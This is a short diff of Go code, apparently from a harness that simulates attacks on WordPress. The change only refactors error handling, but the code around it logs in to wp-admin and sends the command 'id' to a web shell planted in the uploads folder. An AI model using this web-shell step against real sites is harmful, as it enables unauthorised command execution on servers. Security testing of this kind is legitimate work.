@@ -129,8 +129,9 @@ func (s *siege) getIn(ctx context.Context, a *Act) error {
 		return fmt.Errorf("the right password does not log %s in", owner)
 	}
 	for _, path := range []string{"/wp-admin/", "/wp-admin/users.php", "/wp-admin/plugin-install.php"} {
-		if status, _, err := b.get(ctx, path); err != nil || status != http.StatusOK {
-			return fmt.Errorf("%s after the log-in: status %d: %v", path, status, err)
+		status, _, err := b.get(ctx, path)
+		if err := answered(path+" after the log-in", status, http.StatusOK, err); err != nil {
+			return err
 		}
 	}
 	return nil
@@ -150,8 +151,8 @@ func (s *siege) dropShell(ctx context.Context, a *Act) error {
 	path := "/wp-content/uploads/" + time.Now().UTC().Format("2006/01") + "/" + shellName
 	for range 3 {
 		status, _, err := b.post(ctx, path, url.Values{"cmd": {"id"}})
-		if err != nil || status != http.StatusOK {
-			return fmt.Errorf("%s: status %d: %v", path, status, err)
+		if err := answered(path, status, http.StatusOK, err); err != nil {
+			return err
 		}
 		a.Sent[path]++
 	}
